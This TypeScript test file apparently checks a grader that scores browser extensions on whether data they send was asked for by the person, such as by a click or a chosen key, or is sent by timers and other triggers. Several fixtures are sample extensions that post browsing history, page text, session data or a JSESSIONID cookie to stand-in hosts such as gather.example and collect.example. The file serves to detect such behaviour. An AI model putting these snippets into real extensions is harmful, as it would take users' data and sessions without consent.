import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * What speaks for the person's consent, and what a sending weighs without it, on whole small extensions.
 */

describe('what is read in a page after a message', () => {
  const content = `chrome.runtime.onMessage.addListener((m) => {
    if (m.type === 'ask') fetch('https://translate.example/', { method: 'POST', body: document.body.innerText });
  });`;
  const clicked =
    "chrome.contextMenus.onClicked.addListener((i, tab) => chrome.tabs.sendMessage(tab.id, { type: 'ask' }));";
  const sent = (type: string): string =>
    `chrome.alarms.onAlarm.addListener(() => chrome.tabs.sendMessage(1, { type: '${type}' }));`;

  it('is asked for where only the person’s click sends it', async () => {
    expect(await graded({ content, background: clicked })).toMatch(/^A/);
    expect(await graded({ content, background: clicked + sent('other') })).toMatch(/^A/);
  });
  it.each([
    ['what callers hand to a helper that sends', 'A', "send(1, { type: 'other' });"],
    ['such a helper around another', 'A', "const far = (message) => send(1, message); far({ type: 'other' });"],
    ['a caller that asks for it', 'D', "send(1, { type: 'ask' });"],
    [
      'one in a table, which calls it by a name that is made',
      'D',
      "const all = { send }; all['se' + end](1, { type: 'ask' });",
    ],
    ['what is not known', 'D', "send(1, { type: 'other' }); send(1, { type: made });"],
    ['a message whose type is written by name', 'D', "const one = { type: 'other' }; one[of] = 'ask'; send(1, one);"],
    ['another message than that', 'D', "let one = { type: 'other' }; send(1, one); one.type = 'ask'; send(1, one);"],
  ])('goes by %s: %s', async (_, grade, calls) => {
    const helper =
      'const send = (tab, message) => new Promise((done) => { chrome.tabs.sendMessage(tab, message, (answer) => done(answer)); });';
    const background = `${clicked}${helper} chrome.alarms.onAlarm.addListener(() => { ${calls} });`;
    expect(await graded({ content, background })).toMatch(new RegExp(`^${grade}`));
  });
  it.each([
    "message.type = 'ask';",
    "Object.assign(message, { type: 'ask' });",
    "const one = message; one.type = 'ask';",
  ])('is not where a helper makes it that message: %s', async (makes) => {
    const background = `${clicked} function send(message) { ${makes} chrome.tabs.sendMessage(1, message); } setInterval(() => send({ type: 'other' }), 9000);`;
    expect(await graded({ content, background })).toBe('D');
  });
  it('is not where a timer sends it, too', async () => {
    expect(await graded({ content, background: sent('ask') })).toBe('D');
    expect(await graded({ content, background: clicked + sent('ask') })).toBe('D');
  });
});

describe('what a click leads to', () => {
  const send = `function go() { chrome.history.search({ text: '' }, (rows) => {
    fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(rows) });
  }); }`;
  const clicked = 'chrome.action.onClicked.addListener(() => go());';

  it('is asked for where nothing else leads there', async () => {
    expect(await graded({ background: send + clicked })).toMatch(/^A/);
  });
  it.each([
    'chrome.runtime.onInstalled.addListener(() => go());',
    'chrome.alarms.onAlarm.addListener(go);',
    'chrome.tabs.onUpdated.addListener(() => { go(); });',
    'setInterval(go, 60000);',
    'go();',
  ])('is not where something else does, too: %s', async (other) => {
    expect(await graded({ background: send + clicked + other })).toBe('F');
    expect(await graded({ background: send + other + clicked })).toBe('F');
  });
});

describe('a button that a timer puts into the page', () => {
  it('is asked for all the same', async () => {
    const content = `setInterval(() => { const one = document.createElement('button'); one.onclick = () => share(); document.body.append(one); }, 1000);
      function share() { fetch('https://share.example/', { method: 'POST', body: document.body.innerText }); }`;
    expect(await graded({ content })).toMatch(/^A/);
  });
});

describe('a button in a page', () => {
  const send = "fetch('https://share.example/', { method: 'POST', body: document.body.innerText })";
  it('is the script’s own where it made it, keeps it or copied it from the page', async () => {
    const copied = `const one = document.querySelector('.send').cloneNode(true); one.onclick = () => ${send}; document.body.append(one);`;
    const kept = `class Box { constructor() { this.button = document.createElement('button'); this.button.onclick = () => this.send(); } send() { ${send}; } } new Box();`;
    expect(await graded({ content: copied })).toMatch(/^A/);
    expect(await graded({ content: kept })).toMatch(/^A/);
  });
  it('is the script’s own where a function that only makes such gives it', async () => {
    const by = (make: string): string =>
      `${make} const one = make(); document.body.append(one); one.addEventListener('click', () => ${send});`;
    const made = "const button = document.createElement('button'); button.textContent = 'Share'; return button;";
    expect(await graded({ content: by(`function make() { ${made} }`) })).toMatch(/^A/);
    expect(await graded({ content: by("const make = () => document.createElement('button');") })).toMatch(/^A/);
    const found = `if (location.hash) { return document.querySelector('.send'); } ${made}`;
    expect(await graded({ content: by(`function make() { ${found} }`) })).toBe('D');
  });
  it('is the page’s own otherwise', async () => {
    expect(await graded({ content: `document.querySelector('.send').onclick = () => ${send};` })).toBe('D');
  });
});

describe('what is sent to its maker by itself', () => {
  const manifest = { homepage_url: 'https://maker.example' };
  const sending = (what: string): string => `fetch('https://api.maker.example/', { method: 'POST', body: ${what} });`;
  it('is not better than D where it is of any page, less where it is of its own sites or was marked', async () => {
    expect(await graded({ content: sending('document.body.innerText'), manifest })).toBe('D');
    const sites = { ...manifest, content_scripts: [{ matches: ['https://shop.example/*'], js: ['content.js'] }] };
    expect(await graded({ content: sending('document.body.innerText'), manifest: sites })).toMatch(/^A/);
    expect(await graded({ content: sending('getSelection().toString()'), manifest })).toMatch(/^A/);
    const field = 'const { activeElement: field } = document; const at = field.selectionStart;';
    const marked = `${field} ${sending('field.value.slice(at, field.selectionEnd)')}`;
    expect(await graded({ content: marked, manifest })).toMatch(/^A/);
    expect(await graded({ content: marked.replace('.slice(at, ', '.slice(0, '), manifest })).toBe('D');
  });
});

describe('what is pressed', () => {
  const send = "fetch('https://words.example/', { method: 'POST', body: document.body.innerText })";
  const made = "const one = document.createElement('button'); document.body.append(one); ";

  it.each([
    `${made} one.addEventListener('mousedown', () => ${send});`,
    `${made} one.onpointerdown = () => ${send};`,
    `render(h('button', { onMouseDown: () => ${send} }), document.body);`,
    `const go = () => ${send}; render(h('button', { onClick: go, onMouseEnter: () => show(tip) }), document.body);`,
  ])('asks for it as a click does: %s', async (content) => {
    expect(await graded({ content })).toMatch(/^A/);
  });
  it.each([
    `document.addEventListener('mousedown', () => ${send});`,
    `document.querySelector('.send').onpointerdown = () => ${send};`,
    `${made} one.addEventListener('mouseover', () => ${send});`,
    `render(h('button', { onMouseEnter: () => ${send} }), document.body);`,
    `const go = () => ${send}; render(h('button', { onClick: go, onMouseEnter: go }), document.body);`,
    `const say = () => ${send}; function go() { say(); } render(h('button', { onclick: go, onscroll: go }), document.body);`,
  ])('asks for nothing where it is the page’s or only passed over: %s', async (content) => {
    expect(await graded({ content })).toBe('D');
  });
});

describe('a key that is pressed with others', () => {
  const send = "fetch('https://words.example/', { method: 'POST', body: document.body.innerText })";
  const heard = (test: string): string => `addEventListener('keydown', (e) => { ${test} });`;
  it.each([
    `if (e.altKey && (e.key === 't' || e.key === 'T')) ${send};`,
    `if (!e.ctrlKey || !e.shiftKey || e.key !== 'Y') return; ${send};`,
    `if ((e.ctrlKey || e.metaKey) && e.shiftKey && e.key.toLowerCase() === 's') ${send};`,
    `const held = e.metaKey || e.ctrlKey; if (!held || !e.shiftKey) return; if (e.key === 'S') ${send};`,
    `if ((isMac ? e.metaKey : e.ctrlKey) && e.shiftKey && e.key === 'S') ${send};`,
    `if (e.altKey && e.key === '3') go(); function go() { ${send}; }`,
  ])('asks for what it does: %s', async (test) => {
    expect(await graded({ content: heard(test) })).toMatch(/^A/);
  });
  it.each([
    `if (e.ctrlKey && e.key === 'c') ${send};`,
    `if (e.shiftKey && e.key === 'T') ${send};`,
    `if (e.altKey || e.key === 't') ${send};`,
    `if ((e.ctrlKey || e.metaKey) && e.key === 'c') ${send};`,
    `if ((e.ctrlKey || e.key) && e.shiftKey && e.key === 'S') ${send};`,
    `if ((e.ctrlKey || other.metaKey) && e.shiftKey && e.key === 'S') ${send};`,
    `if ((any ? e.ctrlKey : e.isTrusted) && e.shiftKey && e.key === 'S') ${send};`,
    `if (e.altKey && e.key.concat('s') === 's') ${send};`,
    `if (e.altKey && e.key === 'Tab') ${send};`,
    `if (e.altKey && e.key === 't') note(); ${send};`,
    `if (e.altKey && e.code === 'KeyQ') ${send};`,
    `if (e.altKey && e.key === 't') go(); go(); function go() { ${send}; }`,
  ])('asks for nothing where people type so, or more leads there: %s', async (test) => {
    expect(await graded({ content: heard(test) })).toMatch(/[DF]/);
  });
  it('asks for nothing where the script itself makes the event', async () => {
    const content = `const box = { altKey: true, key: 't' }; function on(e) { if (e.altKey && e.key === 't') ${send}; } on(box);`;
    expect(await graded({ content })).toMatch(/[DF]/);
    const made = `addEventListener('keydown', (e) => { if (e.altKey && e.key === 't') ${send}; }); setTimeout(() => dispatchEvent(new KeyboardEvent('keydown', { altKey: true, key: 't' })), 9e3);`;
    expect(await graded({ content: made })).toMatch(/[DF]/);
  });
});

describe('a function that both a click and something else leads to', () => {
  const post =
    "const post = (body) => fetch('https://api.maker.example/', { method: 'POST', body: JSON.stringify(body) });";
  const background = `${post} chrome.contextMenus.onClicked.addListener((info) => post({ q: info.selectionText })); chrome.runtime.onMessage.addListener((m) => { if (m.cmd === 'detect') post(m.doc); });`;
  const manifest = { homepage_url: 'https://maker.example', permissions: ['contextMenus'] };
  it('is not asked for by who sends a message', async () => {
    const content = "setTimeout(() => chrome.runtime.sendMessage({ cmd: 'detect', doc: { text: DATA } }), 2000);";
    expect(await graded({ background, manifest, content: content.replace('DATA', 'document.body.innerText') })).toBe(
      'D',
    );
    expect(await graded({ background, manifest, content: content.replace('DATA', '"ready"') })).toMatch(/^A/);
  });
  it('is asked for by the popup whose button sends it', async () => {
    const popup =
      "document.getElementById('b').onclick = async () => { const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: 1 }, func: () => document.body.innerText }); chrome.runtime.sendMessage({ cmd: 'detect', doc: { text: result } }); };";
    expect(await graded({ background, manifest, popup })).toMatch(/^A/);
  });
});

describe('a method that a listener for messages calls', () => {
  const background =
    "const camera = new (class { shoot() { return chrome.tabs.captureVisibleTab({ format: 'png' }); } async share() { const png = await this.shoot(); await fetch('https://api.maker.example/up', { method: 'POST', body: png }); } })(); chrome.runtime.onMessage.addListener((m, s, reply) => (m.action === 'share' && camera.share().then(reply), true));";
  const manifest = { homepage_url: 'https://maker.example' };
  it('is asked for where every message comes of a click', async () => {
    const popup =
      "document.getElementById('b').addEventListener('click', () => chrome.runtime.sendMessage({ action: 'share' }));";
    expect(await graded({ background, manifest, popup })).toMatch(/^A/);
  });
  it('is not where anything else calls it, too', async () => {
    const alarm = `${background} chrome.alarms.onAlarm.addListener(() => camera.share());`;
    const popup =
      "document.getElementById('b').addEventListener('click', () => chrome.runtime.sendMessage({ action: 'share' }));";
    expect(await graded({ background: alarm, manifest, popup })).toBe('D');
    expect(await graded({ background, manifest, content: "chrome.runtime.sendMessage({ action: 'share' });" })).toBe(
      'D',
    );
  });
});

describe('what a person typed into the page', () => {
  const checks = (show: string): string =>
    `document.addEventListener('focusin', (event) => { const field = event.target; if (field.tagName !== 'TEXTAREA') return; const one = document.createElement('button'); one.textContent = 'Check'; one.addEventListener('mousedown', async () => { const answer = await (await fetch('https://words.example/', { method: 'POST', body: field.value })).json(); ${show} }); field.after(one); });`;

  it('is asked for by a button that then shows what the server says of it', async () => {
    const quiet = await graded({ content: checks('') });
    expect(quiet).toMatch(/^[ABC]/);
    expect(await graded({ content: checks('one.textContent = answer.text;') })).toBe(quiet);
  });
  it.each([
    "const asks = document.createElement('textarea'); asks.placeholder = answer.text; field.after(asks);",
    "const asks = document.createElement('TEXTAREA'); asks.placeholder = answer.text; field.after(asks);",
    'const asks = document.createElement(answer.tag); asks.textContent = answer.text; field.after(asks);',
    'one.innerHTML = answer.form;',
    "one.contentEditable = 'true'; one.textContent = answer.text;",
    'one.textContent = answer.text; one.after(field.cloneNode());',
  ])('is not where the script draws a field that the server describes: %s', async (show) => {
    expect(await graded({ content: checks(show) })).toMatch(/^[DF]/);
  });
});

describe('a file that is chosen', () => {
  const chosen = (then: string): string =>
    `document.getElementById('b').onchange = async (e) => { const f = e.target.files[0]; ${then} };`;
  const post = (what: string): string => `fetch('https://convert.example/', { method: 'POST', body: ${what} });`;
  it('is given to what happens then', async () => {
    expect(await graded({ popup: chosen(post('f')) })).toMatch(/^A/);
  });
  it('is not where it is kept and sent later, also through a reader', async () => {
    const reader = chosen(
      'const r = new FileReader(); r.onload = () => chrome.storage.local.set({ d: r.result }); r.readAsDataURL(f);',
    );
    const later = `chrome.alarms.onAlarm.addListener(async () => { const { d } = await chrome.storage.local.get('d'); ${post('d')} });`;
    expect(await graded({ popup: reader, background: later })).toBe('D');
  });
  it('tells nothing where it is a file of settings', async () => {
    const settings = chosen('chrome.storage.local.set(JSON.parse(await f.text()));');
    const asks =
      "chrome.alarms.onAlarm.addListener(async () => { const { city } = await chrome.storage.local.get('city'); fetch('https://weather.example/?q=' + city); });";
    expect(await graded({ popup: settings, background: asks })).toMatch(/^A/);
  });
});

describe('what a site answers the person’s session', () => {
  const ask = (address: string, then: string): string =>
    `setInterval(async () => { const all = await (await fetch(${address}, { credentials: 'include' })).json(); ${then} }, 60000);`;
  const send = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all) });";
  it('is private where it goes to somebody else', async () => {
    expect(await graded({ content: ask("new URL('/api/contacts', location.origin)", send) })).toBe('D');
    expect(await graded({ background: ask("'https://mail.example/api'", send) })).toMatch(/^[CD]$/);
  });
  it('stays with the site', async () => {
    const back = "fetch('/api/seen', { method: 'POST', body: JSON.stringify(all) });";
    expect(await graded({ content: ask("'/api/contacts'", back) })).toMatch(/^A/);
  });
});

describe('a policy for the extension’s own pages', () => {
  it('lets no script in by a function either, unless it says so', async () => {
    const background =
      "function add(address) { const one = document.createElement('script'); one.src = address; document.head.append(one); } add('https://cdn.example/lib/part.js');";
    const own = { manifest_version: 2, background: { scripts: ['background.js'] } };
    expect(await graded({ background, manifest: own })).toMatch(/^[AB]/);
    const content_security_policy = "script-src 'self' https://cdn.example; object-src 'self'";
    expect(await graded({ background, manifest: { ...own, content_security_policy } })).toBe('D');
  });
  const policy = (hosts: string): Promise<string> =>
    graded({
      popup: 'show();',
      manifest: {
        manifest_version: 2,
        content_security_policy: `script-src 'self' ${hosts}; object-src 'self'`,
      },
    });
  it('weighs less where it allows named services than where it allows any server', async () => {
    expect(await policy('https://apis.google.com https://platform.twitter.com')).toMatch(/^[AB]/);
    expect(await policy('https:')).toBe('C');
  });
});

describe('what an interface of a framework is told', () => {
  const go = `async function send() { const rows = await chrome.history.search({ text: '' });
    await fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(rows) }); }`;
  const page = (script: string) => ({
    files: { 'page.html': '<script src="page.js"></script>', 'page.js': `${go}\n${script}` },
    manifest: { options_page: 'page.html', permissions: ['history'] },
  });

  it.each([
    ['React’s properties', "const App = () => h('button', { onClick: () => send() }, 'Send');"],
    ['Vue’s listeners', "const draw = (_h) => _h('button', { on: { submit: send } });"],
    ['a function for listeners', "listen(button, 'click', () => send());"],
    ['a function for listeners that takes the event first', "event('click', button, () => send());"],
    [
      'lit’s templates',
      'class P { ask() { return send(); } render() { return html`<form @submit=${this.ask}></form>`; } }',
    ],
  ])('is asked for: %s', async (_, script) => {
    expect(await graded(page(script))).toMatch(/^A/);
  });
  it.each([
    [
      'an effect',
      "const App = () => { useEffect(() => { send(); }, []); return h('button', { onClick: () => send() }); };",
    ],
    [
      'a part that is shown',
      "class P { connectedCallback() { send(); } render() { return h('p', { onClick: () => send() }); } }",
    ],
    ['a start', "event('click', button, () => send()); send();"],
    ['another event', "event('scroll', button, () => send());"],
  ])('is not where it happens by itself, too: %s', async (_, script) => {
    expect(await graded(page(script))).toMatch(/[DF]/);
  });
});

describe('an agreement that a button of its own page gives', () => {
  const parts = (name: string, read: string) => ({
    content: `(async () => { const { ${name} } = await chrome.storage.local.get('${name}'); if (${name}) fetch('https://gather.example/', { method: 'POST', body: ${read} }); })();`,
    popup: `document.getElementById('b').addEventListener('click', () => chrome.storage.local.set({ ${name}: true }));`,
  });
  it('to terms or to being counted gives away no content of pages', async () => {
    for (const name of ['consent', 'termsAccepted', 'shareUsage', 'analyticsEnabled'])
      expect(await graded(parts(name, 'document.body.innerText'))).toBe('D');
    expect(await graded(parts('analyticsEnabled', 'location.host'))).toMatch(/^A/);
  });
  it('an option to send just that is another thing', async () => {
    expect(await graded(parts('autoTranslate', 'document.body.innerText'))).toMatch(/^[AB]/);
  });
});

describe('a listener that is bound to itself', () => {
  it('is none, and hides nothing', async () => {
    const background = `var own = own.bind(this); h('b', { onClick: own }); chrome.history.search({ text: '' }, (rows) =>
      fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(rows) }));`;
    expect(await graded({ background, manifest: { permissions: ['history'] } })).toMatch(/[DF]/);
  });
});

describe('a site’s own cookie', () => {
  const back = (to: string): string => `chrome.alarms.onAlarm.addListener(async () => {
    const cookie = await chrome.cookies.get({ url: 'https://login.example', name: 'JSESSIONID' });
    const answer = await fetch('https://login.example/out', { headers: { Cookie: cookie.value } });
    await fetch(${to}, { method: 'POST', headers: { Cookie: cookie.value } });
  });`;
  const manifest = { permissions: ['cookies', 'alarms'], host_permissions: ['<all_urls>'] };

  it('may go to where the site itself led a request', async () => {
    expect(await graded({ background: back('answer.url'), manifest })).toMatch(/^A/);
    expect(await graded({ background: back("'https://gather.example/' + answer.url"), manifest })).toMatch(/[DF]/);
  });
});

describe('a word that is double-clicked', () => {
  const look = (event: string, text: string): string =>
    `document.addEventListener('${event}', async () => { const text = ${text}; await fetch('https://words.example/' + text); });`;
  it('is looked up as the person asked', async () => {
    expect(await graded({ content: look('dblclick', 'getSelection().toString()') })).toMatch(/^A/);
  });
  it('is all that a double click asks for', async () => {
    expect(await graded({ content: look('dblclick', 'document.body.innerText') })).toBe('D');
    expect(await graded({ content: look('mouseup', 'getSelection().toString()') })).toBe('D');
  });
  it.each([
    "document.addEventListener('dblclick', send); document.addEventListener('mouseup', send);",
    "document.addEventListener('dblclick', send); setInterval(send, 1000);",
    "document.addEventListener('dblclick', () => { getSelection().selectAllChildren(document.body); send(); });",
    "document.addEventListener('dblclick', () => send()); document.addEventListener('selectionchange', () => document.dispatchEvent(new MouseEvent('dblclick')));",
  ])('is not what a script marks or sends by itself: %s', async (heard) => {
    const content = `const send = () => fetch('https://words.example/' + getSelection().toString()); ${heard}`;
    expect(await graded({ content })).toBe('D');
  });
});

describe('a listener for what the person does', () => {
  const read =
    "async function read(tab) { fetch('https://ai.example/v1', { method: 'POST', body: tab.url }); } chrome.action.onClicked.addListener(read);";
  it('is asked for, also where it stands in what is heard by itself', async () => {
    const nested = `chrome.runtime.onInstalled.addListener(() => { ${read} chrome.commands.onCommand.addListener((c, tab) => read(tab)); });`;
    expect(await graded({ background: nested })).toMatch(/^A/);
  });
  it.each([
    'chrome.tabs.onUpdated.addListener((id, info, tab) => read(tab));',
    'chrome.tabs.onCreated.addListener(read);',
    'chrome.alarms.onAlarm.addListener(() => chrome.tabs.query({}, ([tab]) => read(tab)));',
  ])('is not where something else runs it, too: %s', async (also) => {
    expect(await graded({ background: read + also })).toBe('F');
  });
});
